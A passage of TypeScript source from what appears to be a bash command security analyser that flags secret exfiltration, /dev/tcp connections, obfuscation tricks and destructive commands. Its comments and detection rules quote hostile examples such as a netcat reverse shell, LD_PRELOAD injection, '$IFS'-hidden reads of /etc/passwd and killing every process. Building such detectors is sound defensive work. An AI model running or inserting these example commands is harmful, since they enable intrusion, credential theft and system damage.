    if (prev && prev.end === a.start) {
      out[out.length - 1] = { ...prev, end: a.end, raw: prev.raw + a.raw, value: prev.value !== null && a.value !== null ? prev.value + a.value : null, pattern: prev.pattern + a.pattern, flags: prev.flags | a.flags, vars: [...prev.vars, ...a.vars] };
    } else out.push(a);
  }
  return out;
}

/**
 * `export {LD_PRELOAD,X}=/tmp/x.so`: the word is no assignment, so bash brace-expands it into one assignment per
 * alternative, each judged as such. A name with glob characters (`export LD_PRELOA[D]=…`) matches file names
 * only known at run time: opaque.
 */
function exportedPattern(ctx: Ctx, sc: Scope, cmd: Cmd, a: Word, v: string): void {
  const eq = v.indexOf('=');
  const names = expandBraces(v.slice(0, eq));
  if (names === null || names.some((n) => !/^[A-Za-z_][A-Za-z0-9_]*$/.test(n))) {
    opaque(ctx, sc, 'env_value', `exports variables whose names come from an expansion (${truncate(a.raw, 40)})`, a.start, a.end);
    return;
  }
  for (const n of names) checkAssign(ctx, sc, cmd, n, { ...a, value: v.slice(eq + 1), raw: v.slice(eq + 1) }, a.start, a.end);
}

/** Brace expansion of comma lists (`{a,b}c` → ac, bc), as bash does it; null past 64 results or for forms it does not model. */
function expandBraces(text: string): string[] | null {
  const open = text.indexOf('{');
  if (open < 0) return [text];
  let depth = 0;
  const cuts: number[] = [];
  let close = -1;
  for (let i = open; i < text.length; i++) {
    const c = text[i]!;
    if (c === '{') depth++;
    else if (c === '}' && --depth === 0) {
      close = i;
      break;
    } else if (c === ',' && depth === 1) cuts.push(i);
  }
  if (close < 0) return [text];
  if (cuts.length === 0) return /\.\./.test(text.slice(open, close)) ? null : [text];
  const parts: string[] = [];
  let from = open + 1;
  for (const c of [...cuts, close]) {
    parts.push(text.slice(from, c));
    from = c + 1;
  }
  const out: string[] = [];
  for (const p of parts) {
    const rest = expandBraces(text.slice(0, open) + p + text.slice(close + 1));
    if (rest === null) return null;
    out.push(...rest);
    if (out.length > 64) return null;
  }
  return out;
}

/**
 * `for LD_PRELOAD in /tmp/x.so; do export LD_PRELOAD; …`: a loop binds its variable to each word, which is an
 * assignment the environment table judges like any other (the loop's words, or opaque for `"$@"`).
 */
function loopBindings(ctx: Ctx, sc: Scope): void {
  for (const l of sc.walked.loops) {
    if (envEntry(l.name) === null) continue;
    const inside = sc.walked.cmds.find((c) => c.start >= l.start && c.end <= l.end) ?? sc.walked.cmds[0];
    if (!inside) continue;
    const env = envContext(ctx, sc, inside);
    const values: EnvValue[] = l.positional ? [{ text: null, raw: '"$@"' }] : l.values.map((w) => ({ text: w.value, raw: w.raw }));
    for (const val of values) applyEnv(ctx, sc, inside, judgeEnv(l.name, val, env), l.start, l.end);
  }
}

/** The script sets `name` without an assignment (`printf -v name`, `read name`); an inherited value is the user's own. */
function setOtherwise(sc: Scope, self: Cmd, name: string): boolean {
  return sc.walked.cmds.some((c) => c !== self && c.kind === 'command' && c.args.some((a) => a.value === name));
}

/** `echo 'export X=…' >> ~/.bashrc`: assignments written into start-up files are judged like assignments. */
function persistedEnv(ctx: Ctx, sc: Scope, cmd: Cmd, args: readonly Word[], targets: readonly Word[]): void {
  if (!targets.some((t) => isStartupFile(t.value ?? t.pattern))) return;
  const stdin = describeStdin(ctx, cmd.stdin);
  const text = [...args.map((a) => a.value ?? a.raw), stdin.kind === 'text' ? stdin.text : ''].join('\n').replace(/\\n/g, '\n');
  const env = envContext(ctx, sc, cmd);
  for (const { name, value } of exportedAssignments(text)) applyEnv(ctx, sc, cmd, judgeEnv(name, value, env), cmd.start, cmd.end);
}

/** Commands that print secrets, secret-named variables printed, and secrets read here that go to the network or an encoder. */
function secretOutput(ctx: Ctx, sc: Scope, cmd: Cmd, name: string, args: readonly Word[]): void {
  const sc0 = secretCommand(name, args);
  if (sc0) add(ctx, sc, 'ask', 'exfil.secret_command', `${name} ${sc0.reason}`, cmd.start, cmd.end);
  if (name === 'ps' && psShowsEnvironment(args)) envDump(ctx, sc, cmd, 'ps e');
  const credFiles = credentialFileReads(name, args);
  if (credFiles.length) add(ctx, sc, 'ask', 'exfil.secret_read', `${name} reads the credential file named by $${credFiles[0]}`, cmd.start, cmd.end);
  if (secretHunt(name, args)) add(ctx, sc, 'ask', 'exfil.secret_search', `${name} searches the home directory or the system for passwords, tokens or keys`, cmd.start, cmd.end);
  const vars = printedSecrets(name, args, cmd);
  if (vars.length) add(ctx, sc, 'ask', 'exfil.secret_env', `${name} prints the value of $${vars[0]}`, cmd.start, cmd.end);
  const span = sc.outer;
  const reads = sc0 !== null || vars.length > 0 || credFiles.length > 0 || ctx.findings.some((f) => SECRET_READ_RULES.has(f.rule) && (span ? f.start === span.start && f.end === span.end : f.start >= cmd.start && f.end <= cmd.end));
  if (!reads) return;
  const sink = sinkOf(sc.walked, cmd, (n) => ctx.p.networkTools.has(n));
  const selfNet = ctx.p.networkTools.has(name) && args.some((a) => /^@|=@|^-T$|--upload-file|--post-file/.test(a.value ?? ''));
  if (sink.network !== null || selfNet) add(ctx, sc, 'deny', 'exfil.upload_secrets', `a secret read by ${name} is sent over the network${sink.network ? ` by ${sink.network}` : ''}`, cmd.start, cmd.end);
  else if (sink.encoder !== null || encodes(name, args)) add(ctx, sc, 'deny', 'exfil.secret_encoded', `a secret read by ${name} is encoded${sink.encoder ? ` by ${sink.encoder}` : ''} (hides it from a reviewer)`, cmd.start, cmd.end);
}

function checkDeclaration(ctx: Ctx, sc: Scope, cmd: Cmd, kw: string): void {
  const flags = cmd.args.filter((a) => (a.value ?? '').startsWith('-')).map((a) => a.value ?? '');
  if (kw === 'export' || (/^(declare|typeset|local)$/.test(kw) && flags.some((f) => /^-[a-zA-Z]*x/.test(f)))) exportedWords(ctx, sc, cmd);
  for (const a of cmd.args) checkWord(ctx, sc, a);
  if (kw === 'unset') {
    for (const a of cmd.args) {
      if (/^(HISTFILE|HISTSIZE|HISTFILESIZE)$/.test(a.value ?? '')) add(ctx, sc, 'deny', 'antiforensics.history', 'unsets shell history variables', cmd.start, cmd.end);
    }
    return;
  }
  if (flags.some((f) => /^-[a-zA-Z]*n/.test(f))) {
    add(ctx, sc, 'deny', 'obfuscation.nameref', `${kw} -n makes a variable an alias of another (indirection hides what runs)`, cmd.start, cmd.end);
  }
  if (kw === 'export' && flags.some((f) => /^-[a-zA-Z]*f/.test(f))) {
    add(ctx, sc, 'ask', 'shell.function_export', 'exports a shell function into child processes', cmd.start, cmd.end);
  }
  // `export -p`, `declare -x`, and a bare `export`/`declare`/`typeset` print every variable.
  if (cmd.assigns.length === 0 && cmd.args.every((a) => (a.value ?? '').startsWith('-')) && (flags.some((f) => /p|x/.test(f)) || (cmd.args.length === 0 && /^(export|declare|typeset)$/.test(kw)))) {
    envDump(ctx, sc, cmd, `${kw} ${flags.join(' ')}`.trim());
  }
}

/** Checks one argument word for obfuscation that is never needed in real commands. */
function checkWord(ctx: Ctx, sc: Scope, w: Word): void {
  const f = w.flags;
  if (f & (WordFlag.indirect | WordFlag.transform)) {
    add(ctx, sc, 'deny', 'obfuscation.indirect_expansion', `indirect or transforming expansion (${truncate(w.raw, 40)})`, w.start, w.end);
  }
  // `$IFS` glued into a word stands in for a blank (`cat${IFS}/etc/passwd`); a word that is only
  // `"$IFS"` is the save/restore idiom (`OLD_IFS="$IFS"; …; IFS="$OLD_IFS"`), data.
  const alone = /^"?\$\{?[A-Za-z_][A-Za-z0-9_]*\}?"?$/.test(w.raw);
  if (w.vars.includes('IFS') && !alone) {
    add(ctx, sc, 'deny', 'obfuscation.ifs', 'uses $IFS inside a word (classic way to hide spaces)', w.start, w.end);
  }
  // A slice of a system variable glued to other text builds a name (`${HOME:0:1}etc`); a slice on
  // its own (`echo "${PATH:0:50}"`) is just printed.
  if (f & WordFlag.paramOp && !/^"?\$\{[A-Za-z_][A-Za-z0-9_]*:-?\d+(:-?\d+)?\}"?$/.test(w.raw) && /\$\{(HOME|PATH|PWD|SHELL|USER|LOGNAME|OLDPWD|IFS|TERM|HOSTNAME|LS_COLORS|PS1|BASH|UID|EUID|HOSTTYPE|OSTYPE|MACHTYPE):-?\d/.test(w.raw)) {
    add(ctx, sc, 'deny', 'obfuscation.param_slice', `slices characters out of a system variable (${truncate(w.raw, 40)})`, w.start, w.end);
  }
  if (f & WordFlag.ansiC && /\\(x[0-9a-fA-F]|u[0-9a-fA-F]|[0-7]{2,3})/.test(w.raw) && w.value !== null && /[A-Za-z0-9/.~]/.test(decodedEscapes(w.raw))) {
    add(ctx, sc, 'deny', 'obfuscation.ansi_c_quote', `$'…' escapes that spell printable text ("${truncate(w.value, 40)}")`, w.start, w.end);
  }
  if (w.pattern.includes('/dev/') && /\/dev\/(tcp|udp)\//.test(w.pattern)) {
    recordNet(ctx, /\/dev\/(?:tcp|udp)\/([^/]+)/.exec(w.pattern)?.[1] ?? '*');
    add(ctx, sc, 'deny', 'net.dev_tcp', 'opens a network connection through /dev/tcp or /dev/udp (reverse shells, exfiltration)', w.start, w.end);
  }
  const text = w.value ?? w.raw;
  if (/[^\x00-\x7f]/.test(text)) checkHomoglyph(ctx, sc, w, text);
}

function decodedEscapes(raw: string): string {
  let out = '';
  raw.replace(/\\(x[0-9a-fA-F]{1,2}|u[0-9a-fA-F]{1,4}|[0-7]{2,3})/g, (m, e: string) => {
    out += e[0] === 'x' || e[0] === 'u' ? String.fromCodePoint(parseInt(e.slice(1), 16)) : String.fromCharCode(parseInt(e, 8));
    return m;
  });
  return out;
}

const CONFUSABLE = /[\u0250-\u02af\u0370-\u03ff\u0400-\u052f\u0531-\u058f\u13a0-\u13ff\u1d00-\u1dbf\u2100-\u214f\uff01-\uff5e\u{1d400}-\u{1d7ff}]/u;

function checkHomoglyph(ctx: Ctx, sc: Scope, w: Word, text: string): void {
  for (const token of text.split(/[\s"'`]+/)) {
    if (!token || !CONFUSABLE.test(token)) continue;
    // Prose may mix scripts; host names, e-mail addresses, URLs and paths should not.
    if (!/[./@:]/.test(token) || /[\u0370-\u03ff\u0400-\u04ff]{3,}/.test(token.replace(/[A-Za-z0-9./@:_-]/g, ''))) continue;
    if (/[A-Za-z]/.test(token) || /[\uff01-\uff5e]/.test(token)) {
      add(ctx, sc, 'deny', 'input.homoglyph', `"${truncate(token, 40)}" mixes Latin letters with look-alike characters from other scripts`, w.start, w.end);
      return;
    }
  }
}

// ---------------------------------------------------------------------------
// argv analysis

function basename(p: string): string {
  const s = p.replace(/\/+$/, '');
  const i = s.lastIndexOf('/');
  return i >= 0 ? s.slice(i + 1) : s;
}

function isOpt(w: Word | undefined): boolean {
  return !!w && w.value !== null && w.value.startsWith('-') && w.value !== '-';
}

/** Arguments that are not options (everything after `--`). One definition, shared with the walker. */
const positionals = positionalArgs;

function hasFlag(args: readonly Word[], short: string, long?: readonly string[]): boolean {
  for (const a of args) {
    const v = a.value;
    if (!v || !v.startsWith('-')) continue;
    if (v === '--') return false;
    if (v.startsWith('--')) {
      if (long?.some((l) => v === l || v.startsWith(l + '='))) return true;
    } else if (short && [...short].some((c) => v.slice(1).includes(c)) && /^-[a-zA-Z]+$/.test(v)) return true;
  }
  return false;
}

/**
 * Analyses a resolved argv. `chain` lists wrappers already unwrapped
 * (`sudo`, `env`, …) for reasons.
 */
export function analyzeArgv(ctx: Ctx, sc: Scope, cmd: Cmd, name0: string, nameWord: Word, args: readonly Word[], writes: Word[], chain: string[]): void {
  if (chain.length > 12) {
    add(ctx, sc, 'deny', 'parse.depth_limit', 'too many nested command wrappers', cmd.start, cmd.end);
    return;
  }
  // A program copied, moved or linked earlier in the command runs as what it was (`cp /bin/bash ./x; ./x -c …`);
  // the name it is run by is executed too (what execve sees).
  if (name0.includes('/') && cmd.links.size > 0) {
    recordExec(ctx, basename(name0.replace(/\/+/g, '/')));
    const abs = resolvePath(cmd.cwd, name0);
    const t = abs === null ? null : resolveLink(cmd.links, abs);
    if (t !== null && t !== abs) name0 = t;
  }
  const name = name0.includes('/') ? basename(name0.replace(/\/+/g, '/')) : name0;
  recordExec(ctx, name);
  // xargs given no command runs echo (over-predicting is harmless: effects are what may run).
  if (name === 'xargs') recordExec(ctx, 'echo');
  for (const h of ownHelpers(name)) recordExec(ctx, h);
  const via = chain.length ? ` via ${chain.join(' → ')}` : '';
  for (const a of args) {
    checkWord(ctx, sc, a);
    if (a.flags & WordFlag.substitution && sc.walked.cmds.some((c) => c.inSubstitution && c.start >= a.start && c.end <= a.end && isDecoder(c))) {
      add(ctx, sc, 'deny', 'obfuscation.decoded_argument', `argument is produced by decoding hidden text (${truncate(a.raw, 40)})`, a.start, a.end);
    }
  }

  if (name0.includes('/') && KNOWN_COMMANDS.has(name) && !/^\/(usr\/)?(local\/)?s?bin\/[^/]+$/.test(name0.replace(/\/+/g, '/'))) {
    const norm = name0.replace(/\/+/g, '/');
    if (norm.includes('/../') || norm.includes('/./') || name0 !== norm || /^(\.\/|\/tmp\/|\/var\/tmp\/|\/dev\/shm\/|[^/])/.test(norm)) {
      add(ctx, sc, 'ask', 'exec.path_shadow', `runs "${name0}", a non-system file named like the standard ${name} command`, nameWord.start, nameWord.end);
    }
  }

  // Policy command rules.
  for (const rule of ctx.p.commandRules.get(name) ?? []) {
    if (commandRuleMatches(ctx, rule, args)) add(ctx, sc, rule.verdict, rule.id, `${rule.reason}: ${name}${via}`, cmd.start, cmd.end);
  }

  // Paths read and written.
  const w = [...writes, ...writeTargets(name, args)];
  for (const t of w) if (!writes.includes(t)) checkPaths(ctx, sc, cmd, t, 'write', name);
  if (!METADATA_ONLY.has(name)) {
    const pattern = patternArgIndex(name, args);
    for (let i = 0; i < args.length; i++) {
      const a = args[i]!;
      if (w.includes(a) || i === pattern) continue;
      // `-m "message"`: a commit message is text, not a path; but `od -c FILE`: a value that looks like a path is checked.
      const prev = args[i - 1]?.value;
      if (prev && TEXT_OPTIONS.has(prev) && !looksLikePath(a.value)) continue;
      checkPaths(ctx, sc, cmd, a, 'read', name);
    }
  }
  checkDestructive(ctx, sc, cmd, name, args);

  if (ctx.p.networkTools.has(name)) {
    const known = ctx.effects.network.size;
    checkNetwork(ctx, sc, cmd, name, args, writes);
    // A network tool whose destination the URL rules did not read (`ssh user@host`, `rsync x host:dir`) still
    // uses the network: predicted as a host the chain did not name.
    if (ctx.effects.network.size === known) recordNet(ctx, '*');
  }
  checkRunsDownload(ctx, sc, cmd, name0, name, args);
  checkRunsWritten(ctx, sc, cmd, name0, name, args);
  if (w.length > 0 && WRITERS.has(name)) {
    checkPayload(ctx, sc, cmd, name, args, w);
    persistedEnv(ctx, sc, cmd, args, w);
  }
  secretOutput(ctx, sc, cmd, name, args);
  for (const e of envSetByCommand(name, args.map((a) => a.value))) applyEnv(ctx, sc, cmd, judgeEnv(e.name, e.value, envContext(ctx, sc, cmd)), cmd.start, cmd.end);
  packageScriptsSet(ctx, sc, cmd, name, args);

  // Tools in the capability table: what their options and positionals run, read, write and contact.
  const modelled = applyCapabilities(ctx, sc, cmd, name, args, writes, chain);
  packageRunner(ctx, sc, cmd, name, args, writes, chain);
  if (SHELLS.has(name)) return shell(ctx, sc, cmd, name, args, chain);
  if (isInterpreter(name)) return interpreter(ctx, sc, cmd, name, args, chain);
  loginWrappers(ctx, sc, cmd, name, args);

  switch (name) {
    case 'env':
      return envCmd(ctx, sc, cmd, nameWord, args, writes, chain);
    case 'builtin':
    case 'then':
    case 'do':
    case 'else':
    case 'coproc':
      return unwrap(ctx, sc, cmd, args, skipOpts(args, null), writes, chain, name);
    case 'find':
      return findCmd(ctx, sc, cmd, args);
    case 'busybox':
      if (args[0]?.value) return analyzeArgv(ctx, sc, cmd, args[0].value, args[0], args.slice(1), writes, [...chain, name]);
      return;
    case 'eval':
      return evalCmd(ctx, sc, cmd, args, chain);
    case 'source':
    case '.':
      return sourceCmd(ctx, sc, cmd, args);
    case 'trap':
      if (args[0] && !isOpt(args[0])) nested(ctx, sc, cmd, args[0], 'trap handler', chain);
      return;
    case 'alias':
      return aliasCmd(ctx, sc, cmd, args);
    case 'enable':
      if (args.some((a) => /^-[a-zA-Z]*[fn]/.test(a.value ?? ''))) add(ctx, sc, 'deny', 'shell.builtin_override', 'loads or disables shell builtins', cmd.start, cmd.end);
      return;
    case 'set':
      return setCmd(ctx, sc, cmd, args);
    case 'printenv':
      if (positionals(args).length === 0) envDump(ctx, sc, cmd, 'printenv');
      return;
    case 'git':
      return gitCmd(ctx, sc, cmd, args, chain);
    case 'sed':
    case 'gsed':
      return sedCmd(ctx, sc, cmd, args, writes);
    case 'pip':
    case 'pip3':
    case 'uv':
    case 'npm':
    case 'pnpm':
    case 'yarn':
    case 'bun':
    case 'gem':
    case 'cargo':
    case 'pipx':
    case 'uvx':
    case 'poetry':
    case 'conda':
      packageInstall(ctx, sc, cmd, name, args);
      return runSubcommand(ctx, sc, cmd, name, args, writes, chain);
    case 'pipenv':
    case 'pdm':
    case 'hatch':
    case 'bundle':
      return runSubcommand(ctx, sc, cmd, name, args, writes, chain);
    case 'chmod':
      return chmodCmd(ctx, sc, cmd, args);
    case 'dd':
      return ddCmd(ctx, sc, cmd, args);
    case 'fallocate':
    case 'truncate':
      return sizeCmd(ctx, sc, cmd, args);
    case 'seq':
      if (positionals(args).some((a) => /^\d+(\.\d+)?e\d+$/i.test(a.value ?? '') || Number(a.value) > 1e9)) add(ctx, sc, 'ask', 'resource.exhaustion', 'generates an enormous sequence', cmd.start, cmd.end);
      return;
    case 'head':
    case 'tail':
      // `head -c 100G /dev/zero > big`: a byte count larger than the sandbox's scratch space, into a file.
      if (cmd.redirects.length > 0 || writes.length > 0) {
        for (let k = 0; k < args.length; k++) {
          const v = args[k]!.value ?? '';
          const n = /^(-c|--bytes)$/.test(v) ? args[k + 1]?.value ?? '' : /^(?:-c|--bytes=)(.+)$/.exec(v)?.[1] ?? '';
          if (n && parseSize(n.replace(/^[+-]/, '')) > ctx.p.policy.limits.tmpfsBytes * 4) add(ctx, sc, 'ask', 'resource.exhaustion', `${name} writes ${n} bytes`, cmd.start, cmd.end);
        }
      }
      return;
    case 'cat':
    case 'pv':
    case 'yes':
      if (args.some((a) => /^\/dev\/(zero|u?random)$/.test(a.value ?? '')) || (name === 'yes' && cmd.redirects.length > 0)) {
        add(ctx, sc, 'ask', 'resource.exhaustion', `reads an endless stream (${name} ${args.map((a) => a.raw).join(' ')})`, cmd.start, cmd.end);
      }
      return;
    case 'tar':
    case 'zip':
    case '7z':
      return archiveCmd(ctx, sc, cmd, name, args);
    case 'mysql':
    case 'psql':
    case 'sqlite3':
    case 'mongo':
    case 'mongosh':
    case 'clickhouse-client':
      return sqlCmd(ctx, sc, cmd, name, args);
    case 'openssl':
      if (args[0]?.value === 's_client' || args[0]?.value === 's_server') add(ctx, sc, 'ask', 'net.raw_socket', 'opens a raw TLS connection', cmd.start, cmd.end);
      return;
    case 'mkfifo':
    case 'mknod':
      add(ctx, sc, 'ask', 'net.fifo', 'creates a named pipe (used to wire shells to sockets)', cmd.start, cmd.end);
      return;
    case 'history':
      return;
    case 'kill':
    case 'pkill':
    case 'killall':
      // pid -1 is every process the user may signal; it can only follow a signal option or `--`
      // (`kill -9 -1`, `kill -s KILL -1`, `kill -- -1`); pid 1 is init.
      if (name === 'kill' && args.some((a, k) => (a.value === '-1' && k > 0) || (a.value === '1' && positionals(args).includes(a)))) {
        add(ctx, sc, 'ask', 'resource.kill_all', 'kills every process (or init)', cmd.start, cmd.end);
      }
      return;
    default:
      if (!modelled && !KNOWN_COMMANDS.has(name)) unmodelledLauncher(ctx, sc, cmd, name, args, chain);
      return;
  }
}

/**
 * `npm pkg set scripts.test='CMD'`, `npm set-script test CMD`: the text is a script npm runs later (`npm test`), so
 * it is analysed as what runs, like a script written into package.json.
 */
function packageScriptsSet(ctx: Ctx, sc: Scope, cmd: Cmd, name: string, args: readonly Word[]): void {
  if (!/^(npm|pnpm|yarn|bun)$/.test(name)) return;
  const pos = positionals(args);
  const v = (k: number): string | null | undefined => pos[k]?.value;
  if (v(0) === 'pkg' && v(1) === 'set') {
    for (const w of pos.slice(2)) {
      const m = /^scripts\.[^=]+=(.*)$/s.exec(w.value ?? '');
      if (m) nestedText(ctx, sc, cmd, m[1]!, w, `${name} pkg set scripts`);
      else if (w.value === null && /scripts/.test(w.raw)) opaque(ctx, sc, 'dynamic_exec', `${name} pkg set writes a script only known at run time`, w.start, w.end);
    }
  } else if (v(0) === 'set-script' && pos[2]) nested(ctx, sc, cmd, pos[2], `${name} set-script`, []);
}

/**
 * Programs worth reading an unknown tool's arguments for: shells, interpreters, network tools and programs that
 * destroy, persist or escalate. Not every known command: `getent passwd root` and `zoxide init bash` name programs
 * as data.
 */
const LAUNCHED = new Set(['rm', 'dd', 'shred', 'mkfs', 'chmod', 'chown', 'mv', 'cp', 'tee', 'crontab', 'git', 'sudo', 'su', 'doas', 'env', 'xargs', 'find', 'eval', 'exec', 'kill', 'pkill', 'systemctl', 'docker', 'install', 'ln', 'truncate']);

/** Whether `w` names such a program (a path's base name counts; `.` and `source` are paths). */
function commandLike(ctx: Ctx, w: Word): boolean {
  const v = w.value;
  if (v === null || v === '' || v.startsWith('-') || v === '.' || v === 'source') return false;
  const b = v.includes('/') ? basename(v) : v;
  return SHELLS.has(b) || isInterpreter(b) || ctx.p.networkTools.has(b) || LAUNCHED.has(b);
}

/**
 * A tool the chain does not model (`retry`, `cgexec -g x`, `hyperfine 'CMD'`, `trickle -d 10`, `daemonize`, …) may be
 * a launcher: its arguments from a program name on (`nc -e /bin/sh h 4444`), or one argument that is a command line,
 * are analysed as what it could run. When that would not be allowed the call is opaque (the tool may run it, the
 * chain cannot know) and the programs count as predicted; when it would be allowed nothing changes.
 */
function unmodelledLauncher(ctx: Ctx, sc: Scope, cmd: Cmd, name: string, args: readonly Word[], chain: string[]): void {
  if (chain.some((c) => c.endsWith('(not modelled)'))) return;
  const label = `${name} (not modelled)`;
  let tries = 0;
  for (let k = 0; k < args.length && tries < 3; k++) {
    const a = args[k]!;
    const line = a.value !== null && /\s/.test(a.value.trim()) && a.value.length < 2000 && commandLike(ctx, { ...a, value: a.value.trim().split(/\s+/)[0]! });
    // A shell or interpreter named last, with nothing to run (`direnv hook bash`, `mise activate zsh`), is a name.
    if (!line && (!commandLike(ctx, a) || k === args.length - 1)) continue;
    tries++;
    const before = ctx.findings.length;
    if (line) nestedText(ctx, sc, cmd, a.value!, a, label);
    else analyzeArgv(ctx, sc, cmd, a.value!, a, args.slice(k + 1), [], [...chain, label]);
    // Not counted: a program started with nothing to run but its input (`tsc --moduleResolution node …` names node as a value).
    const raised = ctx.findings.splice(before).filter((f) => f.verdict !== 'allow' && f.rule !== 'exec.stdin_script');
    if (raised.length > 0) {
      const worst = raised.find((f) => f.verdict === 'deny') ?? raised[0]!;
      opaque(ctx, sc, 'dynamic_exec', `${name} is not a modelled tool and its arguments hold a command that would not be allowed (${worst.rule}: ${truncate(worst.reason, 60)})`, cmd.start, cmd.end);
      return;
    }
  }
}

/** A word that reads as a path (`~/x`, `/etc/x`, `../.env`, `a/b.txt`), not prose or code. */
function looksLikePath(v: string | null): boolean {
  return v !== null && !v.includes('\n') && (/^(~|\/|\.\.?\/)/.test(v) || (!/\s/.test(v) && /[/.~]/.test(v)));
}

function commandRuleMatches(ctx: Ctx, rule: CommandRule, args: readonly Word[]): boolean {
  if (rule.subcommands) {
    const first = positionals(args)[0]?.value;
    if (!first || !rule.subcommands.includes(first)) return false;
  }
  if (rule.flags) {
    // A wrapper's own options stop at the command it runs (`sudo dpkg -i`).
    const own = WRAPPER_OPTS_FIRST.has(rule.commands[0] ?? '') ? args.slice(0, Math.max(0, args.findIndex((a) => !isOpt(a)))) : args;
    const scope = own.length === 0 && args.length > 0 && !isOpt(args[0]) ? [] : WRAPPER_OPTS_FIRST.has(rule.commands[0] ?? '') && args.every((a) => isOpt(a)) ? args : own;
    const ok = rule.flags.some((fl) => (fl.startsWith('--') ? hasFlag(scope, '', [fl]) : hasFlag(scope, fl.slice(1))));
    if (!ok) return false;
  }
  const res = ctx.p.argRegexes.get(rule) ?? [];
  if (res.length) {
    const ok = args.some((a) => {
      const v = a.value ?? a.raw;
      return res.some((re) => re.test(v));
    });
    if (!ok) return false;
  }
  return true;
}

/** Index of the first argument after options (options matching `withArg` consume the next word). */
function skipOpts(args: readonly Word[], withArg: RegExp | null, stopAt?: RegExp): number {
  let i = 0;
  while (i < args.length) {
    const v = args[i]!.value;
    if (v === null) return i;
    if (v === '--') return i + 1;
    if (/^[A-Za-z_][A-Za-z0-9_]*=/.test(v)) {
      i++;
      continue;
    }
    if (!v.startsWith('-') || v === '-') return i;
    if (stopAt && stopAt.test(v)) return args.length;
    if (withArg && withArg.test(v)) i += 2;
    else i++;
  }
  return i;
}

export function unwrap(ctx: Ctx, sc: Scope, cmd: Cmd, args: readonly Word[], at: number, writes: Word[], chain: string[], name: string, assignsAllowed = false): void {
  if (assignsAllowed) {
    for (const a of args.slice(0, at)) {
      const m = /^([A-Za-z_][A-Za-z0-9_]*)=(.*)$/s.exec(a.value ?? '');
      if (m) checkAssign(ctx, sc, cmd, m[1]!, { ...a, value: m[2]!, raw: m[2]! }, a.start, a.end);
    }
  }
  let i = at;
  // sudo FOO=bar cmd
  while (assignsAllowed && i < args.length && /^[^=-][^=]*=/.test(args[i]!.value ?? '')) {
    const m = /^([^=]+)=(.*)$/s.exec(args[i]!.value!)!;
    checkAssign(ctx, sc, cmd, m[1]!, { ...args[i]!, value: m[2]!, raw: m[2]! }, args[i]!.start, args[i]!.end);
    i++;
  }
  const inner = args[i];
  if (!inner) return;
  // checkCommandWord judges a program only known at run time (and returns false for it).
  if (!checkCommandWord(ctx, sc, cmd, inner) || inner.value === null) return;
  analyzeArgv(ctx, sc, cmd, inner.value, inner, args.slice(i + 1), writes, [...chain, name]);
}

function envCmd(ctx: Ctx, sc: Scope, cmd: Cmd, nameWord: Word, args: readonly Word[], writes: Word[], chain: string[]): void {
  let i = 0;
  while (i < args.length) {
    const a = args[i]!;
    const v = a.value;
    if (v === null) {
      // `env X=$dynamic cmd`, `env "X=…$Y"`: the name is literal, the value is not.
      const dm = /^(["']?)([A-Za-z_][A-Za-z0-9_]*)=/.exec(a.raw);
      if (!dm) break;
      checkAssign(ctx, sc, cmd, dm[2]!, { ...a, value: null, raw: dm[1] + a.raw.slice(dm[0].length) }, a.start, a.end);
      i++;
      continue;
    }
    if (v === '-S' || v === '--split-string' || v.startsWith('--split-string=') || /^-[a-zA-Z]*S./.test(v)) {
      const text = v === '-S' || v === '--split-string' ? args.slice(i + 1).map((x) => x.value ?? x.raw).join(' ') : v.replace(/^--split-string=|^-[a-zA-Z]*S/, '') + ' ' + args.slice(i + 1).map((x) => x.value ?? x.raw).join(' ');
      return envSplitString(ctx, sc, cmd, text, spanOf(sc, a, args[args.length - 1]));
    }
    if (v === '-u' || v === '-C' || v === '--unset' || v === '--chdir') {
      i += 2;
      continue;
    }
    if (v.startsWith('-')) {
      i++;
      continue;
    }
    // env takes any word with `=` as an assignment, also names bash cannot write (`BASH_FUNC_x%%`).
    const m = /^([^=]+)=(.*)$/s.exec(v);
    if (m) {
      checkAssign(ctx, sc, cmd, m[1]!, { ...a, value: m[2]!, raw: a.raw.slice(a.raw.indexOf('=') + 1) || m[2]! }, a.start, a.end);
      i++;
      continue;
    }
    break;
  }
  const inner = args[i];
  if (!inner) {
    envDump(ctx, sc, cmd, 'env');
    return;
  }
  void nameWord;
  if (!checkCommandWord(ctx, sc, cmd, inner) || inner.value === null) return;
  analyzeArgv(ctx, sc, cmd, inner.value, inner, args.slice(i + 1), writes, [...chain, 'env']);
}

/**
 * `env -S 'A=1 B=2 cmd args'`: env splits the string itself and takes every
 * leading word with `=` as an assignment (also names bash cannot write); the
 * rest is the command, analysed as a nested script.
 */
function envSplitString(ctx: Ctx, sc: Scope, cmd: Cmd, text: string, at: { start: number; end: number }): void {
  const words = splitEnvS(text);
  if (words === null) {
    analyzeScript(ctx, text, sc.depth + 1, at, 'env -S', cmd.cwd);
    return;
  }
  let k = 0;
  for (; k < words.length; k++) {
    const m = /^([^=-][^=]*)=(.*)$/s.exec(words[k]!);
    if (!m) break;
    const w: Word = { start: at.start, end: at.end, raw: m[2]!, value: m[2]!, pattern: m[2]!, flags: 0, vars: [] };
    checkAssign(ctx, sc, cmd, m[1]!, w, at.start, at.end);
  }
  const rest = words.slice(k).map((x) => (/^[\w./:=@%+,-]+$/.test(x) ? x : `'${x.replace(/'/g, `'\\''`)}'`)).join(' ');
  if (rest) analyzeScript(ctx, rest, sc.depth + 1, sc.outer ?? at, 'env -S', cmd.cwd);
}

function envDump(ctx: Ctx, sc: Scope, cmd: Cmd, what: string): void {
  const sink = sinkOf(sc.walked, cmd, (n) => ctx.p.networkTools.has(n));
  if (sink.network !== null) add(ctx, sc, 'deny', 'exfil.env_dump', `${what} output (all environment variables) is sent over the network by ${sink.network}`, cmd.start, cmd.end);
  else if (sink.encoder !== null) add(ctx, sc, 'deny', 'exfil.env_dump', `${what} output (all environment variables) is encoded by ${sink.encoder}`, cmd.start, cmd.end);
  else add(ctx, sc, 'ask', 'exfil.env_dump', `${what} prints every environment variable, secrets included`, cmd.start, cmd.end);
}

export function spanOf(sc: Scope, a: Word, b?: Word): { start: number; end: number } {
  return sc.outer ?? { start: a.start, end: (b ?? a).end };
}

/** Re-parses a static string as bash, or flags a dynamic one. */
export function nested(ctx: Ctx, sc: Scope, cmd: Cmd, w: Word, label: string, chain: string[]): void {
  if (w.value !== null) {
    analyzeScript(ctx, w.value, sc.depth + 1, spanOf(sc, w), label, cmd.cwd);
    return;
  }
  dynamicScript(ctx, sc, w, label);
  void chain;
}

/** Re-parses a literal shell string (an option value, an env value, a string inside interpreter code) as a nested script. */
